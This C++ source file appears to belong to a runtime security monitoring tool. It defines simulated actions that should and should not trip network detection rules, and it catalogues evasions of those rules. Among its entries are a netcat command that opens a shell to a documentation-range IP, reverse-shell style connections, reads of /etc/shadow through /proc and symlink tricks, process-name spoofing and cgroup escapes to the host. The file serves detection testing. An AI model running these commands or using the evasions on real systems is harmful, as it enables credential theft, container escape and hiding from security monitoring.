// Actions for 85-network.yaml, and the evasions.

#include "simulate/action.h"

namespace gyr::simulate {
namespace {

using enum Where;

constexpr std::array kActions{
    RuleAction{"Shell Opened Network Connection",
               {container, {"as bash connect 203.0.113.5 4444"}},
               {container, {"as tool connect 203.0.113.5 4444"}}},
    RuleAction{"Standard Streams Redirected to Connection in Container",
               {container, {"redirect dup2 0"}},
               {container, {"redirect dup2 7", "connection-flags"}}},
    RuleAction{"Cloud Metadata Service Contacted from Container",
               {container, {"connect 169.254.169.254 80"}},
               {container, {"connect 203.0.113.5 80"}}},
    RuleAction{"Kubernetes API Contacted by Tool in Container",
               {container, {"in-pod as curl connect 203.0.113.5 443"}},
               {container, {"in-pod as app connect 203.0.113.5 443", "in-pod as curl connect 203.0.113.5 80"}}},
    RuleAction{"Kubernetes API Contacted from Container",
               {container, {"in-pod as app connect 203.0.113.5 443"}},
               {container, {"in-pod as app connect 203.0.113.5 80", "as app connect 203.0.113.5 443"}}},
    RuleAction{"Raw Packet Socket in Container", {container, {"packet-socket"}}, {container, {"internet-socket"}}},
    RuleAction{"Connection to Mining Port", {host, {"connect 203.0.113.5 3333"}}, {host, {"connect 127.0.0.1 3333"}}},
    RuleAction{"Connection to Anonymity or Chat Port in Container",
               {container, {"connect 203.0.113.5 6667"}},
               {container, {"connect 203.0.113.5 443"}}},
    RuleAction{"Program without Proper File Uses Network",
               {host, {"cp /usr/local/bin/gyr /tmp/tool", "/tmp/tool deed connect 203.0.113.5 443"}},
               {host, {"cp /usr/local/bin/gyr /opt/tool", "/opt/tool deed connect 203.0.113.5 443"}}},
    RuleAction{"File Tool Uses Network",
               {container, {"as sha256sum connect 203.0.113.5 443"}},
               {container, {"as fetcher connect 203.0.113.5 443"}}},
    RuleAction{"Shell Waits for Connections",
               {container, {"as zsh listen 127.0.0.1 4444"}},
               {container, {"as tool listen 127.0.0.1 4444"}}},
    RuleAction{"Account Tool Uses Network",
               {host, {"as usermod connect 203.0.113.5 443"}},
               {host, {"as usermod connect 203.0.113.5 636"}}},
    RuleAction{"Unusual UDP Destination",
               {host, {"datagram 203.0.113.5 31337"}},
               {host, {"datagram 203.0.113.5 53", "datagram 127.0.0.1 31337"}}},
    RuleAction{"Container Talks beyond Local Networks",
               {container, {"connect 203.0.113.5 8080"}},
               {container, {"connect 127.0.0.1 8080"}}},
    RuleAction{"SSH to Unusual Port in Container",
               {container, {"as ssh connect 203.0.113.5 2222"}},
               {container, {"as ssh connect 203.0.113.5 22"}}},
    RuleAction{"Java Asked Directory Service",
               {host, {"as java connect 203.0.113.5 1389"}},
               {host, {"as java connect 127.0.0.1 1389"}}},
};

constexpr const char* kHashes = "Password Hashes Read";

constexpr std::array kEvasions{
    Evasion{"E2 descriptor reused at once", kHashes, {host, {"below /etc shadow"}}},
    Evasion{"E3 linked folder and ..", kHashes, {host, {"ln -s /etc/security /tmp/l", "cat /tmp/l/../shadow"}}},
    Evasion{"E4 root of the process itself", kHashes, {host, {"cat /proc/self/root/etc/shadow"}}},
    Evasion{"E4 root of the thread", kHashes, {host, {"cat /proc/thread-self/root/etc/shadow"}}},
    Evasion{"E4 up from the folder of descriptors", kHashes, {host, {"cat /dev/fd/../root/etc/shadow"}}},
    Evasion{"E4 root of another process", kHashes, {container, {"cat /proc/1/root/etc/shadow"}}},
    Evasion{"E4 working directory of the process", kHashes, {host, {"sh -c 'cd /etc && cat /proc/self/cwd/shadow'"}}},
    Evasion{"E5 from a changed root directory", kHashes, {host, {"chroot / cat /etc/shadow"}}},
    Evasion{"E6 renamed over", "Account File Changed", {host, {"make /etc/new", "mv /etc/new /etc/passwd"}}},
    Evasion{"E7 named like a trusted program", kHashes, {host, {"as systemd-logind read /etc/shadow"}}},
    Evasion{"E7 name set by prctl", kHashes, {host, {"named sshd read /etc/shadow"}}},
    Evasion{
        "E7 trusted program replaced in a container",
        kHashes,
        {container, {"cp /usr/local/bin/gyr /usr/sbin/unix_chkpwd", "/usr/sbin/unix_chkpwd deed read /etc/shadow"}}},
    Evasion{"E8 program by descriptor",
            "Dropped Program Executed in Container",
            {container, {"copy /usr/bin/fresh", "descriptor /usr/bin/fresh"}}},
    Evasion{"E9 memory, named like the runtime's copy",
            "Fileless Execution",
            {container, {"?memory runc_cloned:/proc/self/exe"}}},
    Evasion{"E9 removed program", "Execution of Deleted Program", {container, {"?unnamed tool"}}},
    Evasion{"E9 link to shared memory",
            "Execution from Shared Memory Directory",
            {container, {"copy /dev/shm/tool", "ln -s /dev/shm/tool /root/tool", "/root/tool"}}},
    Evasion{"E10 openat2", kHashes, {host, {"openat2 /etc/shadow"}}},
    Evasion{"E10 open", kHashes, {host, {"old-open /etc/shadow"}}},
    Evasion{"E10 open by handle", "File Opened by Handle in Container", {capable, {"handle /etc/shadow"}}},
    Evasion{"E10 dup3", "Standard Streams Redirected to Connection in Container", {container, {"redirect dup3 0"}}},
    Evasion{"E10 mount by the newer calls",
            "File System Mounted in Container",
            {capable, {"mkdir /tmp/x", "move-mount /etc /tmp/x"}}},
    Evasion{"E16 options run together", "Netcat Runs a Program", {container, {"call nc 203.0.113.5 4444 -vec/bin/sh"}}},
    Evasion{
        "E27 into the host's cgroup",
        "Process Moved between Cgroups in Container",
        {capable, {"mkdir /tmp/cgroup", "mounted none /tmp/cgroup cgroup2", "leave-cgroup /tmp/cgroup/cgroup.procs"}}},
    Evasion{"E27 what is started from the host's cgroup",
            "Process outside of Its Container",
            {capable,
             {"mkdir /tmp/cgroup", "mounted none /tmp/cgroup cgroup2",
              "sh -c 'echo 0 >/tmp/cgroup/cgroup.procs && exec /bin/true'"}}},
    Evasion{"E29 fcntl", "Standard Streams Redirected to Connection in Container", {container, {"redirect fcntl 0"}}},
    Evasion{"E29 dup", "Standard Streams Redirected to Connection in Container", {container, {"redirect dup 0"}}},
    Evasion{"E29 streams sent by another process",
            "Shell Connected to Network Socket",
            {container, {"on-passed sh -c true"}}},
    Evasion{"E29 nothing moved, nothing started",
            "Shell Opened Network Connection",
            {container, {"as bash connect 203.0.113.5 443"}}},
    Evasion{"E30 opened by one, read by another", kHashes, {host, {"passed /etc/shadow"}}},
    Evasion{"E36 named like a package manager", kHashes, {host, {"as dpkg spawn cat /etc/shadow"}}},
};

} // namespace

std::span<const RuleAction> network_actions() { return kActions; }
std::span<const Evasion> evasions() { return kEvasions; }

} // namespace gyr::simulate
